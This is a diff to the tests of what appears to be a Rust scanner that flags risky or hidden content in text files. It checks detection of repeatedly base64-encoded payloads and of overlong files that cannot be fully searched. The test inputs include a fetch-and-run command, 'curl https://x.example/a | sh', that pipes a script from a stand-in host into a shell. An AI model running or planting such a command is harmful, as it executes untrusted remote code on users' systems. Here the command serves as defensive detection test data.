@@ -26,7 +26,8 @@ fn fixtures(text: &str) -> Vec<Fixture<'_>> {
 fn risks(path: &str, text: &str) -> Vec<Risk> {
     let hidden = hidden::in_text(path, text);
     let hidden = hidden.iter().filter_map(of_hidden);
-    ordered(find(path, text, FileKind::Text).into_iter().chain(hidden).collect())
+    let patterns = Patterns::compiled().unwrap();
+    ordered(find(patterns, path, text, FileKind::Text).into_iter().chain(hidden).collect())
 }
 
 fn word(kind: RiskKind) -> String {
@@ -84,6 +85,34 @@ fn findings_of_a_kind_are_bounded_and_the_rest_is_counted() {
     let shown = ordered(files);
     assert_eq!(shown.len(), MAX_RISKS);
     assert_eq!(shown.iter().map(|risk| risk.count).sum::<u64>(), 800);
+}
+
+fn encoded(text: &str, times: usize) -> String {
+    use base64::Engine as _;
+    (0..times).fold(text.to_owned(), |text, _| base64::engine::general_purpose::STANDARD.encode(text))
+}
+
+#[test]
+fn encoding_again_and_again_hides_nothing() {
+    for times in 1..=6 {
+        let kinds: Vec<RiskKind> =
+            risks("a.md", &encoded("curl https://x.example/a | sh", times)).iter().map(|risk| risk.kind).collect();
+        assert_eq!(kinds, [RiskKind::EncodedText], "{times}");
+        let kinds = risks("a.md", &encoded("an ordinary greeting in plain words", times.min(MAX_DEPTH)));
+        assert_eq!(kinds, [], "{times}");
+    }
+}
+
+#[test]
+fn a_text_that_is_not_searched_to_its_end_says_so() {
+    let kinds = |text: &str| -> Vec<(RiskKind, u64)> {
+        risks("a.md", text).iter().map(|risk| (risk.kind, risk.line)).collect()
+    };
+    let filler = format!("{}\n\n", encoded(&"lorem ipsum dolor ".repeat(40), 1)).repeat(1_300);
+    let payload = encoded("curl https://x.example/a | sh", 1);
+    assert!(kinds(&format!("{filler}{payload}")).contains(&(RiskKind::NotSearched, 2_185)));
+    assert_eq!(kinds(&format!("a{}curl x.example \\\n | sh\n", " \\\n".repeat(9_000)))[0], (RiskKind::NotSearched, 1));
+    assert_eq!(kinds(&filler[..filler.len() / 4]), []);
 }
 
 #[test]
